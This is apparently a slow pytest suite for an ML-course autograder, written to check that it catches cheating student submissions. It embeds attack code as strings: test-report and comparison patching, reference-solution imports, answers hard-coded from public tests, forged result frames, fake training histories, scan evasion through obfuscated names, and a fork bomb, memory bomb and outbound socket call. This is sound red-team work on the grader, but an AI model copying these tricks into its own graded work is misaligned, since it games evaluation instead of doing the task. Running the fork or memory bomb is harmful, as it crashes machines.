"""The attack suite of ``mlcanon grade`` and the broken-submission list (issues 8 and 23).

One batch grades, side by side, two honest students (the shipped good and flawed learners), the
attacks and the broken submissions, as the teacher would: ``mlcanon grade`` in a subprocess, its
outputs read back. Every attack must come out flagged or with no correctness points, never passed;
every broken submission gets a one-line verdict; the honest students keep exactly the grades an
honest submission gets; the batch exits 0 with every output written, and none of its sandbox users
has a process left when it ends.

The attacks of issue 8 target ``detection/boxes`` (a small item), each the good learner's
``boxes.py`` with one change, so a grade other than "passed" can only come from that change. Those
of issue 23 target the trust boundary on ``posttrain/dpo``, ``classical/kmeans`` and
``transformer/attention``: reading the calibration, forwarding to a reference left in the process,
answers honest only on the public inputs, training that trains nothing, forged and malformed
frames, a forbidden kernel reached through an alias, a daemon left behind. Those of points 5-7
attack the parent (folder trees of any shape), the outputs (hostile text) and the kernel's walls
(``kernel_attacks``); the batch runs with the grader's environment holding a secret, its temporary
folders in one of their own, checked empty after.
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import json
import os
import re
import stat
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import kernel_attacks
import pytest
import sandboxing

from pytest_mlcanon import catalog
from pytest_mlcanon.evidence import Status
from pytest_mlcanon.grade import batch, config, discover, render, uids
from pytest_mlcanon.grade.gradebook import Gradebook, ItemResult
from pytest_mlcanon.grade.render import table

pytestmark = pytest.mark.slow  # the fast lane, pytest -m "not slow", leaves it out (CONTRIBUTING.md)

REPO = Path(__file__).resolve().parents[1]
GOOD = REPO / "examples" / "learners" / "good"
FLAWED = REPO / "examples" / "learners" / "flawed"
BOXES = "detection/boxes"
DPO = "posttrain/dpo"
ESCAPE_MARK = Path("/tmp") / f"mlcanon-attack-escaped-{os.getpid()}"
BATCH_TEMP = Path("/tmp") / f"mlcanon-attack-batch-{os.getpid()}"

WRONG_IOU = '''
def box_iou(boxes1, boxes2):
    """IoU matrix (N, M) (wrong on purpose: the ratio of areas)."""
    a1 = (boxes1[:, 2] - boxes1[:, 0]) * (boxes1[:, 3] - boxes1[:, 1])
    a2 = (boxes2[:, 2] - boxes2[:, 0]) * (boxes2[:, 3] - boxes2[:, 1])
    return torch.minimum(a1[:, None], a2[None, :]) / torch.maximum(a1[:, None], a2[None, :]).clamp_min(1e-9)
'''


#: Appended to the good boxes.py: a seed set inside a function the tests call.
SEEDS_TORCH = '''

_honest_area = box_area


def box_area(boxes):
    """Box areas, after seeding torch (harmless: nothing here draws)."""
    torch.manual_seed(0)
    return _honest_area(boxes)
'''


#: Appended to the good boxes.py: ``inspect.signature``, which reads a function's ``__code__`` (blind trial:
#: an honest bootstrap asking whether its statistic takes ``axis`` was INT105 and 0/10).
READS_A_SIGNATURE = '''

import inspect as _inspect

_plain_area = box_area


def box_area(boxes):
    """Box areas, after asking the honest function's parameters."""
    assert "boxes" in _inspect.signature(_plain_area).parameters
    return _plain_area(boxes)
'''


def _honest_then(doc: str, turn: str) -> str:
    """Module code that wraps the honest ``box_iou``: the wrapper counts its calls in ``_CALLS`` (the
    attack's prelude defines it) and runs ``turn``, a condition on that count and what the attack then
    does, before each honest answer."""
    return (f'\n_original_iou = box_iou\n\n\ndef box_iou(boxes1, boxes2):\n    """{doc}"""\n'
            f"    _CALLS[0] += 1{turn}\n    return _original_iou(boxes1, boxes2)\n")


# name -> (code inserted after the imports, code appended at the end of the module)
ATTACKS: dict[str, tuple[str, str]] = {
    "exit_at_import": ("import sys\nsys.exit(0)\n", ""),
    "os_exit_mid_test": ("import os\n_CALLS = [0]\n", _honest_then(
        """IoU, then end the process on the fourth call: a test is running by then.""",
        """
    if _CALLS[0] >= 4:
        os._exit(0)""")),
    "patch_comparisons": ("import numpy as np\n", WRONG_IOU + '''
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
np.testing.assert_allclose = lambda *args, **kwargs: None
'''),
    "patch_test_report": ("", WRONG_IOU + '''
import _pytest.reports

_init = _pytest.reports.TestReport.__init__


def _always_passed(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    self.outcome = "passed"
    self.longrepr = None


_pytest.reports.TestReport.__init__ = _always_passed
'''),
    "import_reference": ("from canon_refs.detection.boxes import box_iou as _reference_iou\n", '''
box_iou = _reference_iou  # noqa: F811
'''),
    "load_reference_by_path": ("import importlib.util\nimport os\n\nimport canon_refs\n", '''
_spec = importlib.util.spec_from_file_location(
    "_copied", os.path.join(os.path.dirname(canon_refs.__file__), "detection", "boxes.py"))
_copied = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_copied)
box_iou = _copied.box_iou  # noqa: F811
generalized_box_iou = _copied.generalized_box_iou  # noqa: F811
'''),
    "read_test_file": ("import canon_tests\nimport pathlib\n", '''
_SOURCE = (pathlib.Path(canon_tests.__file__).parent / "test_detection_boxes.py").read_text()
'''),
    # The same read through the standard library's source reader, which a library formatting a stack trace
    # uses on its own (a read the guard allows): called by the learner, it is the learner's read.
    "read_test_file_through_linecache": ("import canon_tests\nimport linecache\nimport pathlib\n", '''
_SOURCE = linecache.getlines(str(pathlib.Path(canon_tests.__file__).parent / "test_detection_boxes.py"))
'''),
    # ... and through a front end of it, which reads any file its caller names (red team, round 2)
    "read_test_file_through_traceback": ("import canon_tests\nimport pathlib\nimport traceback\n", '''
_LINE = traceback.FrameSummary(str(pathlib.Path(canon_tests.__file__).parent / "test_detection_boxes.py"), 1,
                               "f").line
'''),
    "infinite_loop": ("_CALLS = [0]\n", _honest_then(
        """Honest for seven calls, then never returns, swallowing whatever tries to stop it.""",
        """
    while _CALLS[0] >= 8:
        try:
            sum(range(10_000))
        except BaseException:
            pass""")),
    # The class of the hang: honest through the re-check, then the job ends before its tests all reported,
    # by a way the static scan does not name; none may keep the credit of the tests before the end.
    "exit_after_recheck": ("import os as _os\n_CALLS = [0]\n", _honest_then(
        """Honest for seven calls, then the process ends, by a name the scan cannot read.""",
        """
    if _CALLS[0] >= 8:
        vars(_os)["_ex" + "it"](0)""")),
    "sigkill_itself": ("import os as _os\n_CALLS = [0]\n", _honest_then(
        """Honest for seven calls, then a SIGKILL of its own process.""",
        """
    if _CALLS[0] >= 8:
        vars(_os)["ki" + "ll"](_os.getpid(), 9)""")),
    "close_the_channel": ("import os as _os\n_CALLS = [0]\n", _honest_then(
        """Honest for seven calls, then it closes every descriptor but the standard ones (the result pipe among
    them) and goes on honestly: nothing it does after can be reported.""",
        """
    if _CALLS[0] == 8:
        _os.closerange(3, 1024)""")),
    "interrupt_the_session": ("_CALLS = [0]\n_STOP = KeyboardInterrupt\n", _honest_then(
        """Honest for seven calls, then an interrupt: pytest ends the session cleanly, as after Ctrl-C.""",
        """
    if _CALLS[0] >= 8:
        raise _STOP""")),
    "skip_after_recheck": ("import unittest\n_CALLS = [0]\n", _honest_then(
        """Honest for seven calls, then every test that calls it skips: a skipped test leaves the count.""",
        """
    if _CALLS[0] >= 8:
        raise unittest.SkipTest("not today")""")),
    "flood_after_recheck": ("import sys as _sys\n_CALLS = [0]\n", _honest_then(
        """Honest for seven calls, then it writes without end to the real standard error (past the capture).""",
        """
    while _CALLS[0] >= 8:
        try:
            _sys.__stderr__.write("x" * (1 << 20))
        except BaseException:
            pass""")),
    "memory_bomb": ("", '''
def box_iou(boxes1, boxes2):
    """Allocate until something gives."""
    hog = []
    while True:
        hog.append(b"x" * (64 << 20))
'''),
    "fork_bomb": ("import os\nimport subprocess\n", '''
def box_iou(boxes1, boxes2):
    """Fork until the machine falls over; try harder when refused."""
    for _ in range(10_000):
        try:
            os.fork()
        except BaseException:
            try:
                subprocess.Popen(["sh", "-c", ":(){ :|:& };:"])
            except BaseException:
                pass
    return torch.zeros(boxes1.shape[0], boxes2.shape[0])
'''),
    "open_socket": ("import socket\n", '''
try:
    socket.create_connection(("93.184.216.34", 80), timeout=1).sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
except BaseException:
    pass
'''),
    "write_outside": ("", f'''
try:
    with open({str(ESCAPE_MARK)!r}, "w") as _handle:
        _handle.write("escaped")
except BaseException:
    pass
'''),
    "hard_coded": ("", '''
_KNOWN = {
    ((0.0, 0.0, 2.0, 2.0),): {((1.0, 1.0, 3.0, 3.0),): 1 / 7},
}


def box_iou(boxes1, boxes2):
    """The public example's answer when asked it, a guess otherwise."""
    key1 = tuple(tuple(float(v) for v in b) for b in boxes1.tolist())
    key2 = tuple(tuple(float(v) for v in b) for b in boxes2.tolist())
    if key1 in _KNOWN and key2 in _KNOWN[key1]:
        return torch.full((1, 1), _KNOWN[key1][key2], dtype=boxes1.dtype)
    return torch.full((boxes1.shape[0], boxes2.shape[0]), 0.5, dtype=boxes1.dtype)
'''),
    "read_reference_files": ("import glob\nimport os\n\nimport canon_refs\n", '''
_HOME = os.path.join(os.path.dirname(canon_refs.__file__), "detection")
_SEEN = []
for _path in [os.path.join(_HOME, "boxes.py"), *glob.glob(os.path.join(_HOME, "__pycache__", "boxes.*.pyc"))]:
    try:
        with open(_path, "rb") as _handle:
            _SEEN.append(_handle.read())
    except BaseException:
        pass
'''),
    # Wrong on an edge case the re-check does not replay (boxes of no area: NaN), and the wrong answer hidden
    # from the tests in a value that agrees with every comparison they make (no patch, no frame, no file).
    "agreeable_edge_case": ("import numpy as np\n", '''
class _Agreeable(torch.Tensor):
    """A tensor every torch comparison agrees with, whose numpy copy agrees with every numpy comparison."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        plain = [a.as_subclass(torch.Tensor) if isinstance(a, _Agreeable) else a for a in args]
        if name == "numpy":
            return _Yes(tuple(plain[0].shape))
        if name in ("isfinite", "isclose", "eq", "__eq__"):
            return torch.ones(plain[0].shape, dtype=torch.bool)
        if name in ("isnan", "isinf"):
            return torch.zeros(plain[0].shape, dtype=torch.bool)
        if name in ("allclose", "equal"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


class _Yes(np.ndarray):
    def __new__(cls, shape):
        return np.zeros(shape).view(cls)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast_shapes(*(np.shape(i) for i in inputs))
        if ufunc in (np.isnan, np.isinf):
            return np.zeros(shape, dtype=bool)
        if ufunc in (np.equal, np.isfinite, np.less_equal, np.greater_equal):
            return np.ones(shape, dtype=bool)
        return np.zeros(shape)


def box_iou(boxes1, boxes2):
    """IoU with no guard on an empty union (NaN there), answered in a value that agrees when it is wrong."""
    _check_xyxy(boxes1, "boxes1")
    _check_xyxy(boxes2, "boxes2")
    inter, union, _ = _overlap(boxes1, boxes2)
    result = (inter / union).to(boxes1.dtype)
    return result if torch.isfinite(result).all() else result.as_subclass(_Agreeable)
'''),
    # Wrong (finite) on boxes of no area, where the re-check never looks; the tests' comparison made a no-op by
    # rebinding it in the helpers' module before the test module imports it (by names the scan cannot read).
    "patch_the_test_helpers": ("", '''
_load = vars()["__buil" + "tins__"]["__imp" + "ort__"]
_load("pytest_mlcanon.testing", fromlist=["x"]).assert_close = lambda *args, **kwargs: None


def box_iou(boxes1, boxes2):
    """IoU, and 1 where the union is empty (the tests say 0)."""
    _check_xyxy(boxes1, "boxes1")
    _check_xyxy(boxes2, "boxes2")
    inter, union, _ = _overlap(boxes1, boxes2)
    return torch.where(union > 0, inter / union.clamp_min(1e-30), 1.0).to(boxes1.dtype)
'''),
    # The same wrong IoU; the comparison rebound in the test module itself, once the tests run.
    "patch_a_test_module": ("", '''
_load = vars()["__buil" + "tins__"]["__imp" + "ort__"]
_modules = _load("s" + "ys").modules


def box_iou(boxes1, boxes2):
    """IoU, and 1 where the union is empty (the tests say 0)."""
    for _name in [n for n in _modules if n.endswith("test_detection_boxes")]:
        _modules[_name].assert_close = lambda *args, **kwargs: None
    _check_xyxy(boxes1, "boxes1")
    _check_xyxy(boxes2, "boxes2")
    inter, union, _ = _overlap(boxes1, boxes2)
    return torch.where(union > 0, inter / union.clamp_min(1e-30), 1.0).to(boxes1.dtype)
'''),
    "frame_peek": ("import sys\n", '''
_original_iou = box_iou


def box_iou(boxes1, boxes2):
    """Read the caller's expected value from its frame (and answer honestly anyway)."""
    try:
        sys._getframe(1).f_locals.get("expected")
    except BaseException:
        pass
    return _original_iou(boxes1, boxes2)
'''),
}

# name -> the whole file, or None for a file built from the good one
BROKEN: dict[str, str | bytes] = {
    "syntax_error": "def box_iou(boxes1, boxes2)\n    return boxes1\n",
    "missing_function": "GOOD-WITHOUT:generalized_box_iou",
    "wrong_signature": "GOOD-APPEND:\ndef box_iou(boxes1):\n    \"\"\"One argument only.\"\"\"\n    return boxes1[:, :1]\n",
    "wrong_return_shape": "GOOD-APPEND:\ndef box_iou(boxes1, boxes2):\n    \"\"\"A flat vector.\"\"\"\n"
                          "    return torch.zeros(boxes1.shape[0] * boxes2.shape[0])\n",
    "nan_output": "GOOD-APPEND:\ndef box_iou(boxes1, boxes2):\n    \"\"\"NaN everywhere.\"\"\"\n"
                  "    return torch.full((boxes1.shape[0], boxes2.shape[0]), float('nan'))\n",
    "empty_file": "",
    "missing_package": "import einops_that_is_not_installed\n",
    "not_utf8": b'CAFE = "caf\xe9"\n\n\ndef box_iou(boxes1, boxes2):\n    return boxes1\n',
    "print_loop": "GOOD-APPEND:\ndef box_iou(boxes1, boxes2):\n    \"\"\"A megabyte per second, forever.\"\"\"\n"
                  "    import time\n    while True:\n        print('x' * (1 << 20))\n        time.sleep(1)\n",
}


#: name -> the coding cookie put on the good learner's boxes.py (and a comment in a letter beyond ASCII):
#: the plugin's import, the re-check and the scan read it as Python does; rot13 Python refuses.
COOKIES: dict[str, str] = {"utf8": "utf-8", "latin1": "latin-1", "rot13": "rot13"}


def _cookie_source(encoding: str) -> bytes:
    text = f"# -*- coding: {encoding} -*-\n# caf\u00e9\n" + _good_boxes()
    return text.encode("utf-8" if encoding == "rot13" else encoding)


# -- the trust boundary (issue 23) -----------------------------------------------------------------------------

KMEANS = "classical/kmeans"
ATTENTION = "transformer/attention"
GPT = "transformer/gpt"
UID_SPAN = 400  # the batch's sandbox uids lie in [uid_base, uid_base + UID_SPAN)

#: Writes one frame, by hand, to every pipe the process holds (the result channel among them).
FORGE = '''
import json as _json
import os as _os
import stat as _stat
import struct as _struct


def _forge(body):
    for fd in range(3, 256):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                _os.write(fd, _struct.pack("!I", len(body)) + body)
        except OSError:
            pass
'''

#: Functions of the DPO item that raise: what an "empty" submission has.
EMPTY_DPO = '''
from dataclasses import dataclass


@dataclass
class DPOOutput:
    loss: object = None
    losses: object = None
    margin: object = None
    chosen_rewards: object = None
    rejected_rewards: object = None
    weight: object = None
    accuracy: object = None


def dpo_loss(policy_chosen, policy_rejected, ref_chosen, ref_rejected, beta=0.1):
    return _ANSWER("dpo_loss", policy_chosen, policy_rejected, ref_chosen, ref_rejected, beta=beta)


def token_logprobs(logits, labels):
    return _ANSWER("token_logprobs", logits, labels)


def masked_sequence_logprob(token_logps, completion_mask):
    return _ANSWER("masked_sequence_logprob", token_logps, completion_mask)


def sequence_logprob(model, input_ids, attention_mask, completion_mask):
    return _ANSWER("sequence_logprob", model, input_ids, attention_mask, completion_mask)


def freeze_reference(model):
    return _ANSWER("freeze_reference", model)


def kl_regularized_optimum(ref_probs, rewards, beta):
    return _ANSWER("kl_regularized_optimum", ref_probs, rewards, beta)


def run_dpo(policy, reference, batches, *, steps=50, lr=1e-4, beta=0.1, seed=0):
    return _ANSWER("run_dpo", policy, reference, batches, steps=steps, lr=lr, beta=beta, seed=seed)
'''

# name -> (item, the whole file)
TRUST_ATTACKS: dict[str, tuple[str, str]] = {
    # An empty DPO that answers from the grader's calibration (where a job used to find it: beside its own
    # folder, readable) and rewrites its test outcomes on the result pipe.
    "dpo_reads_calibration": (DPO, FORGE + '''
import glob
import pickle

_FOUND = []
for _path in glob.glob(_os.path.join(_os.path.dirname(_os.getcwd()), "**", "*"), recursive=True):
    try:
        with open(_path, "rb") as _handle:
            _FOUND.append(pickle.load(_handle))
    except BaseException:
        pass
for _n, _name in enumerate(["test_seed_pairs_closed_form", "test_batch_of_one", "test_extreme_margins"]):
    _forge(_json.dumps({"kind": "outcome", "seq": 1 + _n, "outcome": {
        "nodeid": f"canon_tests/test_posttrain_dpo.py::{_name}", "outcome": "passed"}}).encode())


def _ANSWER(name, *args, **kwargs):
    for found in _FOUND:
        for case in found.get("cases", {}).get("posttrain/dpo", []):
            if case["function"] == name:
                return case["expected"]
    raise NotImplementedError(name)
''' + EMPTY_DPO),
    # An empty DPO that forwards to the reference module a zygote left as an attribute of its package.
    "dpo_stale_attribute": (DPO, '''
import sys

_AREA = sys.modules.get("canon_refs.posttrain")
_REF = vars(_AREA).get("dpo") if _AREA is not None else None


def _ANSWER(name, *args, **kwargs):
    return getattr(_REF, name)(*args, **kwargs)
''' + EMPTY_DPO),
    # Honest on Python floats and on the public tensors of the tests, wrong on any other tensor.
    "dpo_loss_public_only": (DPO, "GOOD:" + '''
_PUBLIC = {-12.0, -11.5, -13.0, -10.8, -12.8, -11.65, -10.5, -11.0, -10.0, -12.0, -2.0, -3.0}
_honest_loss = dpo_loss


def dpo_loss(policy_chosen, policy_rejected, ref_chosen, ref_rejected, beta=0.1):
    values = (policy_chosen, policy_rejected, ref_chosen, ref_rejected)
    public = all(isinstance(v, float) or {round(float(x), 4) for x in torch.as_tensor(v).reshape(-1)} <= _PUBLIC
                 for v in values)
    if public:
        return _honest_loss(*values, beta=beta)
    return _honest_loss(policy_rejected, policy_chosen, ref_rejected, ref_chosen, beta=beta)
'''),
    # The answers from another item's reference: the capstone's preference stage defines dpo_loss, run_dpo,
    # sequence_logprob and freeze_reference; imported under a name the scan cannot read (the red-team round
    # of stop 32). A job's sandbox shows that file empty, as it shows the item's own.
    "dpo_wraps_the_capstone_reference": (DPO, '''
"""DPO by the capstone's preference stage."""
import importlib

_stage = importlib.import_module("canon_refs.capstone." + "preference_" + "stage")
dpo_loss = _stage.dpo_loss
sequence_logprob = _stage.sequence_logprob
freeze_reference = _stage.freeze_reference
run_dpo = _stage.run_dpo
token_logprobs = getattr(_stage, "token_logprobs", None)
masked_sequence_logprob = getattr(_stage, "masked_sequence_logprob", None)
kl_regularized_optimum = getattr(_stage, "kl_regularized_optimum", None)
'''),
    # Honest on the tests' own inputs (round numbers) and on half precision; on any other input a wrong
    # beta (8 % too large) answered in bfloat16, whose 16 ulps (12 %) used to set the re-check's tolerance.
    # run_dpo trains with the honest loss, so only dpo_loss's own cases can catch it.
    "dpo_loss_wrong_in_bfloat16": (DPO, "GOOD:" + '''
_honest_loss = dpo_loss
_FIELDS = ("loss", "losses", "margin", "chosen_rewards", "rejected_rewards", "weight")


def dpo_loss(policy_chosen, policy_rejected, ref_chosen, ref_rejected, beta=0.1):
    values = (policy_chosen, policy_rejected, ref_chosen, ref_rejected)
    public = all(isinstance(v, float) or v.dtype in (torch.float16, torch.bfloat16)
                 or all(abs(float(x) * 100 - round(float(x) * 100)) < 1e-3 for x in v.reshape(-1)) for v in values)
    if public:
        return _honest_loss(*values, beta=beta)
    out = _honest_loss(*values, beta=beta * 1.08)
    return DPOOutput(**{f: getattr(out, f).to(torch.bfloat16) for f in _FIELDS}, accuracy=out.accuracy)


_attack_loss = dpo_loss
_honest_run = run_dpo


def run_dpo(*args, **kwargs):
    global dpo_loss
    dpo_loss = _honest_loss
    try:
        return _honest_run(*args, **kwargs)
    finally:
        dpo_loss = _attack_loss
'''),
    # An excuse, not an answer: a function the re-check looks up (a module ``__getattr__``, outside the call it
    # makes) raises the harness's own "cannot be set up" while no test runs, reached by names the scan cannot
    # read, so that a verified item would become unverified and earn what the teacher's policy awards.
    "dpo_says_its_case_cannot_be_set_up": (DPO, "GOOD:" + '''
_replay = vars()["__buil" + "tins__"]["__imp" + "ort__"]("pytest_mlcanon.grade." + "replay", fromlist=["x"])
_HIDDEN = {"kl_regularized_optimum": kl_regularized_optimum}
_ASKED = [0]
del kl_regularized_optimum


def __getattr__(name):
    if name not in _HIDDEN:
        raise AttributeError(name)
    _ASKED[0] += 1
    if _ASKED[0] == 1:  # the re-check runs before any test: the first ask is its
        raise _replay.Unverifiable("DPOOutput's parameters are not the reference's (missing none; extra none)")
    return _HIDDEN[name]
'''),
    # Trains nothing and returns a made-up history whose margin rises.
    "run_dpo_fake_history": (DPO, "GOOD:" + '''
def run_dpo(policy, reference, batches, *, steps=50, lr=1e-4, beta=0.1, seed=0):
    _check_beta(beta)
    if not (math.isfinite(lr) and lr > 0) or steps < 0:
        raise ValueError("bad lr or steps")
    _check_batches(list(batches))
    return {"losses": [0.69 - 0.01 * i for i in range(steps)], "margins": [0.05 * (i + 1) for i in range(steps)],
            "accuracies": [1.0] * steps}
'''),
    # An empty k-means that writes a whole job's transcript, numbered as the channel numbers frames, with
    # every test passed: its only chance, k-means's labels being defined up to a permutation.
    "kmeans_forged_transcript": (KMEANS, FORGE + '''
_NAMES = ["TestKMeans::test_1d_closed_form", "TestKMeans::test_three_blobs_purity_one",
          "TestKMeans::test_inertia_history_non_increasing"]
_frames = [{"kind": "phase", "name": "recheck"}, {"kind": "collected", "tests": []}]
for _name in _NAMES:
    _nodeid = f"canon_tests/test_classical_knn_kmeans.py::{_name}"
    _frames += [{"kind": "start", "test": _nodeid},
                {"kind": "outcome", "outcome": {"nodeid": _nodeid, "outcome": "passed"}}]
_frames += [{"kind": "report", "report": None, "states": {}}, {"kind": "done"}]
for _seq, _frame in enumerate(_frames, start=1):
    _forge(_json.dumps({**_frame, "seq": _seq}).encode())


def kmeans_plus_plus_init(X, k, rng):
    raise NotImplementedError


def assign(X, centroids):
    raise NotImplementedError


def kmeans(X, k, *, n_iter=100, tol=1e-8, init="k-means++", seed=0):
    raise NotImplementedError
'''),
    # k-means++ that is the first k points, on a function the re-check cannot call (it takes a generator); kmeans
    # itself, which the re-check calls, seeds honestly. The tests that catch it pass on the channel: the frame of
    # each outcome is made by a method rebound through unittest.mock (whose frame, not the learner's, sets the
    # class attribute), reached by names the scan cannot read.
    "kmeans_forges_its_outcomes": (KMEANS, "GOOD:" + '''
_load = vars()["__buil" + "tins__"]["__imp" + "ort__"]
_evidence = _load("pytest_mlcanon." + "evidence", fromlist=["x"])
_mock = _load("unittest." + "mock", fromlist=["x"])
_honest_to_json = _evidence.Outcome.to_json


def _passed(self):
    data = _honest_to_json(self)
    if data["outcome"] in ("failed", "error"):
        data.update(outcome="passed", message="", where=None, origin=None, raised="", raised_at="")
    return data


_mock.patch.object(_evidence.Outcome, "to_json", _passed).start()
_honest_init = kmeans_plus_plus_init
_honest_kmeans = kmeans


def kmeans_plus_plus_init(X, k, rng):
    return np.asarray(X, dtype=np.float64)[:k].copy()


def kmeans(X, k, *, n_iter=100, tol=1e-8, init="k-means++", seed=0):
    global kmeans_plus_plus_init
    kmeans_plus_plus_init, wrong = _honest_init, kmeans_plus_plus_init
    try:
        return _honest_kmeans(X, k, n_iter=n_iter, tol=tol, init=init, seed=seed)
    finally:
        kmeans_plus_plus_init = wrong
'''),
    # A k-means++ that is the first k points, on the function the re-check cannot call (it takes a generator),
    # its failing tests turned to passes in pytest's own report class: the tamper watch may see the rebinding,
    # and whether or not it does, a test that calls an unverified name is paid by the teacher's policy only.
    "kmeans_init_forged_in_the_reports": (KMEANS, "GOOD:" + '''
_load = vars()["__buil" + "tins__"]["__imp" + "ort__"]
_reports = _load("_pytest." + "reports", fromlist=["x"])
_honest_report = _reports.TestReport.__init__


def _passing(self, *args, **kwargs):
    _honest_report(self, *args, **kwargs)
    if "kmeans_plus_plus" in self.nodeid and self.outcome == "failed":
        self.outcome, self.longrepr = "passed", None


setattr(_reports.TestReport, "__init__", _passing)


def kmeans_plus_plus_init(X, k, rng):
    return np.asarray(X, dtype=np.float64)[:k].copy()
'''),
    # The same, after trying to remove the profile hook that watches what runs.
    "attention_unhooks_the_detector": (ATTENTION, "GOOD:" + '''
import sys as _sys

_honest_attention = scaled_dot_product_attention


def scaled_dot_product_attention(q, k, v, mask=None, *, dropout_p=0.0, scale=None, return_weights=False,
                                 generator=None):
    try:
        _sys.setprofile(None)
    except BaseException:
        pass
    if return_weights or dropout_p > 0.0 or mask is not None or not q.dtype.is_floating_point:
        return _honest_attention(q, k, v, mask, dropout_p=dropout_p, scale=scale, return_weights=return_weights,
                                 generator=generator)
    return torch.ops.aten.scaled_dot_product_attention(q, k, v, scale=scale)
'''),
    # torch, which k-means forbids, reached as an attribute of another item's reference (no import names it),
    # and used only where the re-check does not look: kmeans_plus_plus_init called on its own (it takes a
    # generator); inside kmeans, which the re-check calls, the seeding is honest.
    "kmeans_torch_through_another_module": (KMEANS, "GOOD:" + '''
from canon_refs.transformer import attention as _helper

_honest_init = kmeans_plus_plus_init
_honest_kmeans = kmeans
_INSIDE = [False]


def kmeans(*args, **kwargs):
    _INSIDE[0] = True
    try:
        return _honest_kmeans(*args, **kwargs)
    finally:
        _INSIDE[0] = False


def kmeans_plus_plus_init(X, k, rng):
    if _INSIDE[0]:
        return _honest_init(X, k, rng)
    lib = _helper.torch
    pts = lib.as_tensor(np.asarray(X, dtype=np.float64))
    _check_k(k, pts.shape[0])
    picks = [int(rng.integers(pts.shape[0]))]
    gap = lib.cdist(pts, pts[picks[0]][None]).pow(2).squeeze(1)
    while len(picks) < k:
        total = float(gap.sum())
        nxt = int(rng.choice(pts.shape[0], p=(gap / total).numpy())) if total > 0 else int(
            rng.choice(np.setdiff1d(np.arange(pts.shape[0]), picks)))
        picks.append(nxt)
        gap = lib.minimum(gap, lib.cdist(pts, pts[nxt][None]).pow(2).squeeze(1))
    return pts[picks].numpy().copy()
'''),
    # Attention by the fused kernel, reached through a name the static scan does not know.
    "attention_kernel_alias": (ATTENTION, "GOOD:" + '''
import torch.nn.functional as _functional

_fast = getattr(_functional, "scaled_dot_product_" + "attention")
_honest_attention = scaled_dot_product_attention


def scaled_dot_product_attention(q, k, v, mask=None, *, dropout_p=0.0, scale=None, return_weights=False,
                                 generator=None):
    if return_weights or dropout_p > 0.0 or mask is not None or not q.dtype.is_floating_point:
        return _honest_attention(q, k, v, mask, dropout_p=dropout_p, scale=scale, return_weights=return_weights,
                                 generator=generator)
    return _fast(q, k, v, scale=scale)
'''),
}

MASKS = "transformer/masks"

#: A pytest plugin a student runs on the public masks tests against the reference (outside the grader): it
#: keeps each call's arguments and the reference's answer, or the error it raised.
_RECORD_MASKS = '''
import functools, json, os
import pytest
import torch

from canon_refs.transformer import masks

NAMES = ("causal_mask", "padding_mask", "key_padding_to_attention", "combine_masks", "mask_to_bias",
         "causal_padding_mask", "positions_from_mask")
TABLE = {}


def key(v):
    if isinstance(v, torch.Tensor):
        return ["T", str(v.dtype), list(v.shape), v.tolist()]
    if isinstance(v, (list, tuple)):
        return ["L", [key(x) for x in v]]
    if isinstance(v, dict):
        return ["M", sorted([k, key(x)] for k, x in v.items())]
    return ["V", repr(v) if v is None or isinstance(v, (bool, int, float, str, torch.dtype)) else type(v).__name__]


def recorded(name, fn):
    @functools.wraps(fn)
    def call(*args, **kwargs):
        found = json.dumps([name, key(list(args)), key(kwargs)])
        try:
            out = fn(*args, **kwargs)
        except Exception as exc:
            TABLE.setdefault(found, {"raise": str(exc)})
            raise
        if isinstance(out, torch.Tensor):
            TABLE.setdefault(found, {"dtype": str(out.dtype).removeprefix("torch."), "values": out.tolist()})
        elif out is None:
            TABLE.setdefault(found, {"none": True})
        return out
    return call


def pytest_sessionstart(session):
    for name in NAMES:
        setattr(masks, name, recorded(name, getattr(masks, name)))


def pytest_sessionfinish(session):
    with open(os.environ["MASKS_TABLE"], "w") as handle:
        json.dump(TABLE, handle)
'''

#: The masks module the table becomes: no mask is computed, each public call's answer is looked up.
_BY_HEART = '''"""Attention masks, learned by heart: the reference's answer to each call of the public tests."""
import json

import torch

_TABLE = json.loads(%r)


def _key(v):
    if isinstance(v, torch.Tensor):
        return ["T", str(v.dtype), list(v.shape), v.tolist()]
    if isinstance(v, (list, tuple)):
        return ["L", [_key(x) for x in v]]
    if isinstance(v, dict):
        return ["M", sorted([k, _key(x)] for k, x in v.items())]
    return ["V", repr(v) if v is None or isinstance(v, (bool, int, float, str, torch.dtype)) else type(v).__name__]


def _answer(name, args, kwargs):
    found = _TABLE.get(json.dumps([name, _key(list(args)), _key(kwargs)]))
    if found is None:
        return torch.ones(1, dtype=torch.bool)  # never asked by the tests: a guess
    if "raise" in found:
        raise ValueError(found["raise"])
    if "none" in found:
        return None
    return torch.tensor(found["values"], dtype=getattr(torch, found["dtype"]))
''' + "".join(f"\n\ndef {name}(*args, **kwargs):\n    return _answer({name!r}, args, kwargs)\n"
                for name in ("causal_mask", "padding_mask", "key_padding_to_attention", "combine_masks", "mask_to_bias",
                             "causal_padding_mask", "positions_from_mask"))


def _masks_learned_by_heart(folder: Path) -> bytes:
    """The public tests of the batch's items (the attention tests call the masks too) run on the reference with
    ``_RECORD_MASKS``; the answers, as a module."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "record_masks.py").write_text(_RECORD_MASKS, encoding="utf-8")
    table = folder / "table.json"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(folder), os.environ.get("PYTHONPATH", "")]),
           "MASKS_TABLE": str(table), "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
    files = sorted({str(REPO / "canon_tests" / name) for slug in _table()["items"] for name in catalog.get(slug).test_files})
    subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "record_masks", "-p", "no:cacheprovider", *files],
                   cwd=folder, env=env, check=False, capture_output=True, timeout=600)
    return (_BY_HEART % table.read_text(encoding="utf-8")).encode()


# name -> code appended to the good boxes.py: frames forged or malformed, a daemon left behind, answers
# that are not plain data
